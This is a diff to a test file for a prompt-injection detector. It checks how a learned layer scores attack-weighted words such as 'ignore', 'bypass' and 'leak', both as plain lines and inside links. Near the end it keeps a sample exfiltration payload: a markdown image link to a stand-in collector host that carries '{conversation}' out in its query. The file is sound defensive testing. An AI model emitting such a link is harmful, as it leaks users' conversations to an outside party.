@@ -864,24 +864,33 @@ describe('options', () => {
 
   it('lets the learned layer only corroborate on a window made of web addresses', () => {
     const detector = createInjectionDetector();
-    const notes = [
-      'fix parser on empty input',
-      'update dev dependencies',
-      'add support for node 22',
+    // Words the layer weighs as attack words, once as plain lines and once
+    // as the host and path of links (a list of link references).
+    const pairs = [
+      ['hack', 'reveal'],
+      ['session', 'bypass'],
+      ['mode', 'payload'],
+      ['override', 'hack'],
+      ['key', 'ignore'],
+      ['reveal', 'bypass'],
+      ['leak', 'leak'],
+      ['session', 'admin'],
     ];
-    const more = ['remove unused helper', 'document the stream option', 'speed up the tokenizer'];
-    const changelog = [...notes, ...more, 'tests: cover unicode keys', 'reply to review comments']
-      .map((note, i) => {
-        const sha = `${(i + 1) * 1234567}`.padEnd(40, 'ab0c');
-        return `- ${note} [\`${sha.slice(0, 7)}\`](https://github.com/example-org/example-lib/commit/${sha})`;
-      })
+    const plain = pairs.map(([a, b]) => `- ${a} ${b}`).join('\n');
+    const links = pairs
+      .map(([a, b], i) => `- https://${a}.example.net/${b}/${(i + 1) * 104729}`)
       .join('\n');
-    const verdict = detector.detect(changelog, { source: 'document' });
-    // The layer still sees it (a finding), but a changelog alone is no attack.
-    expect(verdict.findings.map((f) => f.ruleId)).toContain('model.linear');
-    expect(verdict.flagged).toBe(false);
+    for (const source of ['user', 'document'] as const) {
+      const words = detector.detect(plain, { source });
+      expect(words.flagged, source).toBe(true);
+      expect(words.findings.map((f) => f.ruleId)).toEqual(['model.linear']);
+      // The layer still sees the links (a finding), but links alone are no attack.
+      const verdict = detector.detect(links, { source });
+      expect(verdict.findings.map((f) => f.ruleId)).toEqual(['model.linear']);
+      expect(verdict.flagged, source).toBe(false);
+    }
     // A link that carries data out is judged by the link rules, URLs or not.
-    const leak = `${changelog}\n![status](https://collector.example/p?q={conversation})`;
+    const leak = `${links}\n![status](https://collector.example/p?q={conversation})`;
     expect(detector.detect(leak, { source: 'document' }).flagged).toBe(true);
   });
 
